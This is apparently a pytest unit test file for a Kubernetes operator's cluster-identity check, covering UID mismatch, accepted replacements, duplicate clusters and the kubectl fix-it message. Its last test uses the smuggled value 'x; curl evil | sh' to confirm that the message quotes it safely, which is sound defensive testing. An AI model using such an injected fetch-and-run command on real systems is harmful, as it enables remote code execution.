"""A cluster is who it was: by the uid that is on record, by what its admin accepts, and by who else has it."""

import pytest

from adapter import names
from adapter.admission.cluster_identity import IdentityRecord, find_conflict, identity_record, recorded_uid
from adapter.objects.unstructured import Raw
from tests.unit.builders import make_worker_cluster

HERE, THERE = "11111111-aaaa", "22222222-bbbb"


def cluster(name: str = "east", uid: object = "", accepted: str = "", made: str = "2026-01-01T00:00:00Z") -> Raw:
    raw = make_worker_cluster(name)
    metadata = {
        **raw["metadata"],
        "creationTimestamp": made,
        "annotations": {names.ACCEPT_CLUSTER_ANNOTATION: accepted},
    }
    return {**raw, "metadata": metadata, "status": {**raw["status"], **({"clusterUID": uid} if uid else {})}}


@pytest.mark.parametrize(
    ("on_record", "reason"),
    [
        pytest.param(IdentityRecord("east"), "", id="never seen"),
        pytest.param(IdentityRecord("east", HERE), "", id="the same"),
        pytest.param(IdentityRecord("east", THERE), names.ConditionReason.IDENTITY_MISMATCH, id="another one"),
        pytest.param(IdentityRecord("east", THERE, HERE), "", id="another one, which is accepted"),
        pytest.param(
            IdentityRecord("east", THERE, "33333333"),
            names.ConditionReason.IDENTITY_MISMATCH,
            id="a third one is accepted",
        ),
        pytest.param(IdentityRecord("east", HERE, THERE), "", id="the same, and another one will be accepted"),
        pytest.param(IdentityRecord("east", "", "33333333"), "", id="never seen, and another one will be accepted"),
        pytest.param(
            IdentityRecord("east", other_cluster_by_uid={HERE: "west"}),
            names.ConditionReason.DUPLICATE_CLUSTER,
            id="west's",
        ),
        pytest.param(IdentityRecord("east", other_cluster_by_uid={THERE: "west"}), "", id="not west's"),
        pytest.param(IdentityRecord("east", "", HERE, {HERE: "west"}), "", id="west's, and meant"),
        pytest.param(
            IdentityRecord("east", HERE, "", {HERE: "west"}),
            names.ConditionReason.DUPLICATE_CLUSTER,
            id="both have it on record",
        ),
        pytest.param(
            IdentityRecord("east", THERE, "", {HERE: "west"}),
            names.ConditionReason.IDENTITY_MISMATCH,
            id="a Secret with west's content",
        ),
    ],
)
def test_who_is_taken_for_the_cluster(on_record: IdentityRecord, reason: str) -> None:
    found = find_conflict(on_record, HERE)
    assert (found.reason if found else "") == reason


def test_whoever_may_put_it_right_reads_how() -> None:
    found = find_conflict(IdentityRecord("east", THERE), HERE)
    assert found and found.message == (
        "its kubeconfig leads to another cluster than before: the uid of its namespace kube-system is 11111111-aaaa, and "
        "status.clusterUID says 22222222-bbbb; nothing is read or written there, and what runs in the first one is left as it is. Put "
        "the kubeconfig right; or, if that cluster is gone for good and this one stands in its place, say so: kubectl annotate "
        "workercluster east --overwrite rayspan.dev/accept-cluster=11111111-aaaa"
    )
    found = find_conflict(IdentityRecord("east", other_cluster_by_uid={HERE: "west"}), HERE)
    assert found and "it is the cluster of WorkerCluster west" in found.message
    assert found.message.endswith(
        "kubectl annotate workercluster east --overwrite rayspan.dev/accept-cluster=11111111-aaaa"
    )


def test_a_uid_without_an_end_makes_no_sentence_without_an_end() -> None:
    found = find_conflict(IdentityRecord("east", THERE), "x" * 10**6)
    assert found and len(found.message) < 1000


@pytest.mark.parametrize(("uid", "want"), [("", ""), (HERE, HERE), (5, ""), ({"a": 1}, "")])
def test_what_is_on_record_is_read_tolerantly(uid: object, want: str) -> None:
    assert recorded_uid(cluster(uid=uid)) == want


EARLY, LATE = "2026-01-01T00:00:00Z", "2026-02-01T00:00:00Z"


@pytest.mark.parametrize(
    ("mine", "others", "taken"),
    [
        pytest.param(cluster(), [], {}, id="alone"),
        pytest.param(cluster(), [cluster("west")], {}, id="one that was never seen"),
        pytest.param(cluster(), [cluster("west", HERE)], {HERE: "west"}, id="another one's"),
        pytest.param(cluster(made=EARLY), [cluster("west", HERE, made=LATE)], {HERE: "west"}, id="it was seen later"),
        pytest.param(
            cluster(uid=HERE, made=EARLY), [cluster("west", HERE, made=LATE)], {}, id="both, and this one is older"
        ),
        pytest.param(
            cluster(uid=HERE, made=LATE),
            [cluster("west", HERE, made=EARLY)],
            {HERE: "west"},
            id="both, and it is younger",
        ),
        pytest.param(cluster(uid=HERE), [cluster("west", HERE)], {}, id="both in one second: by name"),
        pytest.param(cluster("west", HERE), [cluster("east", HERE)], {HERE: "east"}, id="and the other way round"),
        pytest.param(
            cluster(),
            [cluster("c", HERE, made=LATE), cluster("b", HERE, made=EARLY)],
            {HERE: "b"},
            id="of two the older one is named",
        ),
        pytest.param(
            cluster(uid=HERE), [cluster("west", THERE)], {THERE: "west"}, id="what is not its own may be another one's"
        ),
    ],
)
def test_whose_a_cluster_is(mine: Raw, others: list[Raw], taken: dict[str, str]) -> None:
    assert identity_record(mine, [*others, mine]).other_cluster_by_uid == taken


def test_all_that_is_on_record_is_read() -> None:
    assert identity_record(cluster(uid=HERE, accepted=THERE), []) == IdentityRecord("east", HERE, THERE)


@pytest.mark.parametrize(
    "on_record",
    [IdentityRecord("east", THERE), IdentityRecord("east", other_cluster_by_uid={"x; curl evil | sh": "west"})],
)
def test_what_is_to_be_typed_holds_no_command_of_who_answers(on_record: IdentityRecord) -> None:
    found = find_conflict(on_record, "x; curl evil | sh")
    assert found and found.message.endswith(" rayspan.dev/accept-cluster='x; curl evil | sh'")
